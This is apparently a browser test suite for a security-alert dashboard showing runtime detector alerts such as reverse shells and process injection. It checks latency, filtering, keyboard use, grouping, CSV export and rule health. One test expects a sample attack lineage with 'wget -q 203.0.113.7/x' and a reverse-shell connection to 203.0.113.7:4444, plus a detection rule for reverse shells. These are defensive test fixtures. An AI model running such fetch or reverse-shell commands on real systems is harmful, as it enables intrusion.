// What a responder does.
import assert from "node:assert/strict";
import { gzipSync } from "node:zlib";
import { dashboard, until } from "../browser.mjs";
import { Detector } from "../detector.mjs";

async function setting({ page, after }, { path = "/", fill = 200, options = {}, args = [] } = {}) {
  const detector = await new Detector().start();
  after(() => detector.stop());
  detector.fill(fill, 3_600_000);
  const server = await dashboard([detector], args);
  after(() => server.stop());
  const view = await page(server.url, { path, ...options });
  return { detector, server, view };
}

const rows = (view) => view.locator("[role=option]");

export const tests = {
  async "every panel shows an alert within a second"(tools) {
    const { detector, view } = await setting(tools, { fill: 0 });
    await view.getByText("No alerts yet").waitFor();
    let slowest = 0;
    for (const [path, rule, place] of [
      ["#/alerts", "terminal_shell_in_container", () => rows(view).first()],
      ["#/panels", "reverse_shell", () => view.getByRole("article", { name: "Reverse shells" }).getByRole("button").first()],
      ["#/panels", "injection_attempt", () => view.getByRole("article", { name: "Process injection" }).getByRole("button").first()],
      ["#/panels", "suspicious_exec", () => view.getByRole("article", { name: "Suspicious programs" }).getByRole("button").first()],
    ]) {
      await view.evaluate((hash) => (location.hash = hash), path);
      await view.locator(path === "#/alerts" ? ".stream" : ".grid").waitFor();
      const began = Date.now();
      detector.push({}, began, rule);
      await place().waitFor();
      slowest = Math.max(slowest, Date.now() - began);
    }
    assert.ok(slowest < 1000, `the slowest took ${slowest} ms`);
    assert.deepEqual(view.problems, []);
    return `slowest ${slowest} ms`;
  },

  async "a filter stands in the address and a link to it shows the same"(tools) {
    const { detector, server, view } = await setting(tools);
    detector.push({ node: "needle-node" }, Date.now(), "reverse_shell");
    await view.getByRole("textbox", { name: "Node" }).fill("needle");
    await view.getByRole("button", { name: "critical" }).click();
    await until("one row is left", async () => (await rows(view).count()) === 1);
    const address = view.url();
    assert.equal(address.split("?")[1].split("&").sort().join(), "node=needle,severity=critical");
    const other = await tools.page(server.url, { path: address.slice(server.url.length) });
    await until("the link shows one row", async () => (await rows(other).count()) === 1);
    await other.getByRole("button", { name: "Clear" }).click();
    await until("all are back", async () => (await rows(other).count()) > 10);
  },

  async "keys are enough to work through alerts"(tools) {
    const { view } = await setting(tools);
    await rows(view).first().waitFor();
    for (const key of ["j", "j", "ArrowDown", "k"]) await view.keyboard.press(key);
    assert.equal(await view.locator("[aria-selected=true]").getAttribute("aria-posinset"), "2");
    await view.keyboard.press("End");
    await until("the last is selected", async () => (await view.locator("[aria-selected=true]").getAttribute("aria-posinset")) === "200");
    await view.keyboard.press("Enter");
    await view.getByRole("dialog", { name: "Alert" }).getByText("What to do").waitFor();
    assert.match(view.url(), /alert=018f/);
    await view.keyboard.press("Escape");
    await view.getByRole("dialog").waitFor({ state: "detached" });
    await view.keyboard.press("/");
    await view.keyboard.type("shadow");
    assert.match(view.url(), /q=shadow/);
    await view.keyboard.press("Escape");
    await view.keyboard.press("4");
    await view.getByRole("region", { name: "History" }).waitFor();
    assert.deepEqual(view.problems, []);
  },

  async "pausing holds the list, counts what comes, and misses nothing"(tools) {
    const { detector, view } = await setting(tools, { fill: 3 });
    await rows(view).first().waitFor();
    await view.keyboard.press("p");
    for (let at = 0; at < 5; at += 1) detector.push();
    await view.getByRole("button", { name: "Resume (5 new)" }).click();
    await until("all are there", async () => (await rows(view).count()) === 8);
  },

  async "repeated alerts are one row with their number"(tools) {
    const { detector, view } = await setting(tools, { fill: 0, path: "/#/alerts?group=1" });
    for (let at = 0; at < 40; at += 1) detector.push({ node: "n", pod: {}, container: {} }, Date.now(), "reverse_shell");
    await view.getByText("×40").waitFor();
    assert.equal(await rows(view).count(), 1);
    await rows(view).first().click();
    await view.getByRole("dialog", { name: "Alert" }).getByText("What to do").waitFor();
  },

  async "the drawer shows every field and the JSON"(tools) {
    const { detector, view } = await setting(tools);
    const alert = detector.push({ output_fields: { "my.field": "its value" } }, Date.now(), "reverse_shell");
    await rows(view).first().click();
    const drawer = view.getByRole("dialog", { name: "Alert" });
    for (const text of ["attack.mitre.org/techniques/T1059/004", alert.recommendation, "its value", alert.container.id, "203.0.113.7:4444"]) {
      await drawer.getByText(text).first().waitFor();
    }
    await drawer.getByText("Raw JSON").click();
    assert.ok((await drawer.locator("pre").innerText()).includes(`"alert_id": "${alert.alert_id}"`));
    await drawer.getByRole("link", { name: "Lineage" }).click();
    const lineage = view.getByRole("region", { name: "Lineage" });
    await lineage.getByText("wget -q 203.0.113.7/x").waitFor();
    await lineage.getByText("the alert", { exact: true }).waitFor();
    assert.equal(await lineage.locator("li.path").count(), 3);
  },

  async "the history searches, counts and exports"(tools) {
    const { detector, view } = await setting(tools, { path: "/#/history?last=1h" });
    detector.push({ reason: "the needle" });
    await view.getByRole("button", { name: "Refresh" }).click();
    await view.getByText("201 alerts").waitFor();
    await view.getByRole("searchbox", { name: "Search in alerts" }).fill("needle");
    await until("one row is left", async () => (await rows(view).count()) === 1);
    const download = view.waitForEvent("download");
    await view.getByRole("link", { name: "Export CSV" }).click();
    const file = await download;
    assert.equal(file.suggestedFilename(), "sentinel-alerts.csv");
    const chunks = [];
    for await (const chunk of await file.createReadStream()) chunks.push(chunk);
    const lines = Buffer.concat(chunks).toString().trim().split("\r\n");
    assert.equal(lines.length, 2);
    assert.ok(lines[1].includes("the needle"));
    assert.deepEqual(view.problems, []);
  },

  async "a field of the heatmap leads to its alerts"(tools) {
    const { view } = await setting(tools, { path: "/#/heatmap?last=1h" });
    const field = view.locator(".cell a").first();
    const n = Number((await field.getAttribute("title")).split(" ")[0]);
    await field.click();
    await view.getByRole("region", { name: "History" }).waitFor();
    await until("as many rows as it said", async () => (await view.getByText(`${n} listed`).count()) === 1);
  },

  async "nodes and rules say what is not as it should be"(tools) {
    const { view } = await setting(tools, { path: "/#/nodes" });
    const unseen = view.getByRole("region", { name: "What cannot be seen right now" });
    await unseen.getByText("has said nothing for 6 min").waitFor();
    await view.getByText("lsm/file_open does not work on 2 nodes").waitFor();
    await view.getByText("is losing exec").first().waitFor(); // known from the second look on
    await view.keyboard.press("6");
    await view.getByText("Nodes run different rules").waitFor();
    await view.getByText("Reverse shell", { exact: true }).click();
    await view.getByText('sentinel rules explain FILE --rule "Reverse shell"').waitFor();
    await view.getByText("(evt.type = connect and proc.name in (reverse_shell))").waitFor();
  },

  async "the first load is small and quick"(tools) {
    const { server, view } = await setting(tools);
    let bytes = 0;
    const names = await view.evaluate(() => performance.getEntriesByType("resource").map(({ name }) => name));
    for (const name of [`${server.url}/`, ...names.filter((name) => !name.includes("/api/") && !name.includes("/events"))]) {
      bytes += gzipSync(Buffer.from(await (await fetch(name)).arrayBuffer()), { level: 9 }).length;
    }
    assert.ok(bytes < 300_000, `${bytes} bytes`);
    const ms = await view.evaluate(() => performance.getEntriesByType("navigation")[0].loadEventEnd);
    assert.ok(ms > 0 && ms < 1000 * Number(process.env.SLOWNESS ?? 1), `${ms} ms`);
    return `${bytes} bytes, ${Math.round(ms)} ms`;
  },
};
